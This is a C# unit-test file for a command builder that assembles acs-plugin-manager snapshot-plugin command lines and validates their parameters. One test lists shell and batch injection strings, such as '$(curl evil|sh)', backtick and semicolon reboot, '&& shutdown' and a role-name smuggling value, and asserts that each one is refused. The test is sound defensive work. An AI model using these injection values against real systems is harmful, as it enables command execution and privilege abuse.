using AppSnapshot.Models;
using AppSnapshot.Plugin;

namespace AppSnapshot.Tests.Plugin;

public class PluginCommandBuilderTests
{
    private static PluginOptions Minimal() => new() { RamRoleName = "AppSnapshotRoleName", Name = "LinuxApp1" };

    [Fact]
    public void LinuxDefaultsSendOnlyRequiredParametersAndTheScriptPaths()
    {
        var line = PluginCommandBuilder.Build(Platform.Linux, Minimal());

        Assert.Equal(
            "acs-plugin-manager --exec --plugin app-snapshot-plugin --params=-RamRoleName=\"AppSnapshotRoleName\",-Name=\"LinuxApp1\"," +
            "-PreScriptPath=\"/tmp/prescript.sh\",-PostScriptPath=\"/tmp/postscript.sh\"",
            line.CommandContent);
        Assert.Equal("RunShellScript", line.CommandType);
        Assert.Equal(Platform.Linux, line.Platform);
        Assert.Equal(line.CommandContent, line.ToString());
    }

    [Fact]
    public void LinuxWithEveryOptionMatchesTheSeedGrammar()
    {
        var options = Minimal();
        options.Description = "LinuxApp";
        options.ExcludeDiskIds.Add("d-bp1aaa");
        options.ExcludeDiskIds.Add("d-bp1bbb");
        options.ExcludeDiskIds.Add("d-bp1aaa");
        options.InstantAccess = true;
        options.InstantAccessRetentionDays = 3;
        options.EnableFsFreeze = true;
        options.TimeoutInSeconds = 30;
        options.ScriptTimeoutInSeconds = 600;

        var line = PluginCommandBuilder.Build(Platform.Linux, options);

        Assert.Equal(
            "acs-plugin-manager --exec --plugin app-snapshot-plugin --params=-RamRoleName=\"AppSnapshotRoleName\",-Name=\"LinuxApp1\"," +
            "-Description=\"LinuxApp\",-ExcludeDiskId=\"d-bp1aaa,d-bp1bbb\",-InstantAccess=true,-InstantAccessRetentionDays=3," +
            "-EnableFsFreeze=true,-TimeoutInSeconds=30,-PreScriptPath=\"/tmp/prescript.sh\",-PostScriptPath=\"/tmp/postscript.sh\"," +
            "-ScriptTimeoutInSeconds=600",
            line.CommandContent);
        Assert.Equal(1800 + 30 + 2 * 600, line.TimeoutSeconds);
    }

    [Fact]
    public void LinuxWithoutScriptsIsFileSystemConsistentAndFalseIsSentBare()
    {
        var options = Minimal();
        options.UseScripts = false;
        options.EnableFsFreeze = false;
        options.InstantAccess = false;

        var line = PluginCommandBuilder.Build(Platform.Linux, options);

        Assert.DoesNotContain("ScriptPath", line.CommandContent);
        Assert.EndsWith("-InstantAccess=false,-EnableFsFreeze=false", line.CommandContent);
        Assert.Equal(1800 + 30, line.TimeoutSeconds);
    }

    [Fact]
    public void LinuxTimeoutCoversBothDefaultScriptTimeouts()
    {
        Assert.Equal(1800 + 30 + 2 * 1800, PluginCommandBuilder.Build(Platform.Linux, Minimal()).TimeoutSeconds);
    }

    [Fact]
    public void LinuxTimeoutStaysUnderRunCommandCeilingAtTheLimits()
    {
        var options = Minimal();
        options.TimeoutInSeconds = PluginCommandBuilder.MaxFreezeTimeoutSeconds;
        options.ScriptTimeoutInSeconds = PluginCommandBuilder.MaxScriptTimeoutSeconds;
        Assert.True(PluginCommandBuilder.Build(Platform.Linux, options).TimeoutSeconds <= 86400);
    }

    [Fact]
    public void WindowsMatchesTheSeedGrammar()
    {
        var options = new PluginOptions { RamRoleName = "AppSnapshotRoleName", Name = "APPSnapshot-1", Description = "AppSnapshot", EnableWriters = false };

        var line = PluginCommandBuilder.Build(Platform.Windows, options);

        Assert.Equal(
            "acs-plugin-manager --exec --plugin app-snapshot-plugin-win --params=-RamRoleName=\"AppSnapshotRoleName\"," +
            "-Name=\"APPSnapshot-1\",-Description=\"AppSnapshot\",-EnableWriters=false",
            line.CommandContent);
        Assert.Equal("RunBatScript", line.CommandType);
        Assert.Equal(1800, line.TimeoutSeconds);
        Assert.Equal(Platform.Windows, line.Platform);
    }

    [Fact]
    public void WindowsIgnoresTheLinuxScriptSwitchAndOmitsUnsetWriters()
    {
        var line = PluginCommandBuilder.Build(Platform.Windows, new PluginOptions { RamRoleName = "r", Name = "ab" });
        Assert.Equal("acs-plugin-manager --exec --plugin app-snapshot-plugin-win --params=-RamRoleName=\"r\",-Name=\"ab\"", line.CommandContent);
    }

    public static TheoryData<string> LinuxOnlyOptions => new() { "EnableFsFreeze", "TimeoutInSeconds", "ScriptTimeoutInSeconds" };

    [Theory]
    [MemberData(nameof(LinuxOnlyOptions))]
    public void LinuxOnlyOptionsAreRefusedForWindows(string option)
    {
        var options = new PluginOptions { RamRoleName = "r", Name = "ab" };
        switch (option)
        {
            case "EnableFsFreeze": options.EnableFsFreeze = true; break;
            case "TimeoutInSeconds": options.TimeoutInSeconds = 30; break;
            default: options.ScriptTimeoutInSeconds = 60; break;
        }

        var e = Assert.Throws<PluginArgumentException>(() => PluginCommandBuilder.Build(Platform.Windows, options));
        Assert.Equal(option, e.ParamName);
        Assert.Contains("Linux", e.Message);
    }

    [Fact]
    public void EnableWritersIsRefusedForLinux()
    {
        var options = Minimal();
        options.EnableWriters = true;
        var e = Assert.Throws<PluginArgumentException>(() => PluginCommandBuilder.Build(Platform.Linux, options));
        Assert.Equal("EnableWriters", e.ParamName);
    }

    [Fact]
    public void ScriptTimeoutWithoutScriptsIsRefused()
    {
        var options = Minimal();
        options.UseScripts = false;
        options.ScriptTimeoutInSeconds = 60;
        Assert.Equal("ScriptTimeoutInSeconds",
            Assert.Throws<PluginArgumentException>(() => PluginCommandBuilder.Build(Platform.Linux, options)).ParamName);
    }

    [Fact]
    public void RetentionDaysNeedInstantAccess()
    {
        var options = Minimal();
        options.InstantAccessRetentionDays = 2;
        Assert.Equal("InstantAccessRetentionDays",
            Assert.Throws<PluginArgumentException>(() => PluginCommandBuilder.Build(Platform.Linux, options)).ParamName);
    }

    [Theory]
    [InlineData("InstantAccessRetentionDays", 0)]
    [InlineData("InstantAccessRetentionDays", 65537)]
    [InlineData("TimeoutInSeconds", 0)]
    [InlineData("TimeoutInSeconds", 3601)]
    [InlineData("ScriptTimeoutInSeconds", 0)]
    [InlineData("ScriptTimeoutInSeconds", 36001)]
    public void IntegersOutsideTheirRangeAreRefused(string option, int value)
    {
        var options = Minimal();
        options.InstantAccess = true;
        switch (option)
        {
            case "InstantAccessRetentionDays": options.InstantAccessRetentionDays = value; break;
            case "TimeoutInSeconds": options.TimeoutInSeconds = value; break;
            default: options.ScriptTimeoutInSeconds = value; break;
        }

        var e = Assert.Throws<PluginArgumentException>(() => PluginCommandBuilder.Build(Platform.Linux, options));
        Assert.Equal(option, e.ParamName);
        Assert.Contains(value.ToString(), e.Message);
    }

    [Fact]
    public void RetentionDaysUpperBoundIsAccepted()
    {
        var options = Minimal();
        options.InstantAccess = true;
        options.InstantAccessRetentionDays = 65536;
        Assert.Contains("-InstantAccessRetentionDays=65536", PluginCommandBuilder.Build(Platform.Windows, options).CommandContent.Replace("\"", ""));
    }

    [Theory]
    [InlineData("Name", "x\",-RamRoleName=\"Admin")]
    [InlineData("Name", "a$(curl evil|sh)")]
    [InlineData("Name", "a`reboot`")]
    [InlineData("Name", "a\"; reboot; \"")]
    [InlineData("Name", "a && shutdown")]
    [InlineData("Name", "a%COMSPEC%")]
    [InlineData("Name", "a^&calc")]
    [InlineData("Name", "a\nreboot")]
    [InlineData("Name", "a\0")]
    [InlineData("Description", "ok\" & calc & \"")]
    [InlineData("Description", "ok $(id)")]
    [InlineData("Description", "ok\nreboot")]
    [InlineData("Description", "ok !VAR!")]
    [InlineData("RamRoleName", "r\" | sh #")]
    [InlineData("RamRoleName", "")]
    [InlineData("ExcludeDiskId", "d-1\",-Name=\"x")]
    [InlineData("ExcludeDiskId", "d-1;reboot")]
    public void InjectionAttemptsAreRefusedBeforeAnythingIsBuilt(string parameter, string value)
    {
        foreach (var platform in new[] { Platform.Linux, Platform.Windows })
        {
            var options = Minimal();
            switch (parameter)
            {
                case "Name": options.Name = value; break;
                case "Description": options.Description = value; break;
                case "RamRoleName": options.RamRoleName = value; break;
                default: options.ExcludeDiskIds.Add(value); break;
            }

            var e = Assert.Throws<PluginArgumentException>(() => PluginCommandBuilder.Build(platform, options));
            Assert.Equal(parameter, e.ParamName);
        }
    }

    [Fact]
    public void NullOptionsAndUnknownPlatformAreRefused()
    {
        Assert.Throws<ArgumentNullException>(() => PluginCommandBuilder.Build(Platform.Linux, null!));
        Assert.Throws<ArgumentOutOfRangeException>(() => PluginCommandBuilder.Build((Platform)7, Minimal()));
    }

    [Fact]
    public void ExcludeDiskIdsAreJoinedWithTheDocumentedSeparator()
    {
        Assert.Equal("d-a,d-b", ExcludeDiskIdFormat.Join(new[] { "d-a", "d-b" }));
        Assert.Equal(",", ExcludeDiskIdFormat.Separator);
    }

    [Fact]
    public void ChineseGroupNameIsEmbeddedVerbatim()
    {
        var options = Minimal();
        options.Name = "快照-1";
        Assert.Contains("-Name=\"快照-1\"", PluginCommandBuilder.Build(Platform.Linux, options).CommandContent);
    }
}
